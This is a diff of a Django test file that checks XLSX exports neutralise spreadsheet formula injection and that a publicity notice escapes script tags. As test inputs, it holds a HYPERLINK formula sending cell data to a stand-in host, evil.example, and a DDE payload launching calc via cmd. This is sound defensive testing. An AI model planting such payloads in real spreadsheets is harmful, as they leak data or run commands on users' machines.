@@ -1,26 +1,19 @@
 """Downloads: formula injection is neutralised in every XLSX; the notice PDF escapes user text."""
 
 import datetime
-import io
 from decimal import Decimal
 
 import pytest
 from django.urls import reverse
-from openpyxl import load_workbook
 
 from reviews.exports import publicity_notice_html
 from reviews.models import Assignment, Publicity, PublicityEntry
 from reviews.services.scoring import score_save
 from tests.factories.reviews import panel_with, points_for
+from tests.helpers import xlsx_cells
 
 pytestmark = pytest.mark.django_db
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
-
-
-def cells(response):
-    content = b"".join(response.streaming_content) if response.streaming else response.content
-    workbook = load_workbook(io.BytesIO(content))
-    return [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None]
 
 
 def test_score_sheet_writes_formula_like_text_as_text(opened, client_for, city):
@@ -31,11 +24,12 @@ def test_score_sheet_writes_formula_like_text_as_text(opened, client_for, city):
     score_save(actor=assignment.expert.user, assignment=assignment, points=points_for(panel, Decimal("0.5")),
                comment="+cmd|' /C calc'!A0", submit=True)
     response = client_for(city).get(reverse("reviews:panel_scores_xlsx", args=[panel.pk]))
-    values = [c for c in cells(response) if isinstance(c.value, str)]
+    values = [c for c in xlsx_cells(response, filled=True) if isinstance(c.value, str)]
     texts = {c.value for c in values}
     assert "'" + EVIL in texts and "'+cmd|' /C calc'!A0" in texts
     assert all(c.data_type == "s" for c in values)
-    numbers = [c.value for c in cells(client_for(city).get(reverse("reviews:panel_scores_xlsx", args=[panel.pk])))
+    sheet = client_for(city).get(reverse("reviews:panel_scores_xlsx", args=[panel.pk]))
+    numbers = [c.value for c in xlsx_cells(sheet, filled=True)
                if isinstance(c.value, int | float)]
     assert 50 in numbers or 50.0 in numbers  # the total stays a number
 
@@ -52,9 +46,9 @@ def test_publicity_list_and_notice_escape_user_text(client_for, city):
                                   project_name="-2+3", category_name="c", county_name="中原区",
                                   amount=Decimal("1234567.89"))
     response = client_for(city).get(reverse("reviews:publicity_xlsx", args=[publicity.pk]))
-    texts = {c.value for c in cells(response) if isinstance(c.value, str)}
+    texts = {c.value for c in xlsx_cells(response, filled=True) if isinstance(c.value, str)}
     assert "'@SUM(1+1)*cmd" in texts and "'-2+3" in texts
-    assert 123.46 in {c.value for c in cells(client_for(city).get(reverse("reviews:publicity_xlsx",
-                                                                          args=[publicity.pk])))}
+    listing = client_for(city).get(reverse("reviews:publicity_xlsx", args=[publicity.pk]))
+    assert 123.46 in {c.value for c in xlsx_cells(listing, filled=True)}
     html = publicity_notice_html(publicity)
     assert "<script>" not in html and "&lt;script&gt;" in html
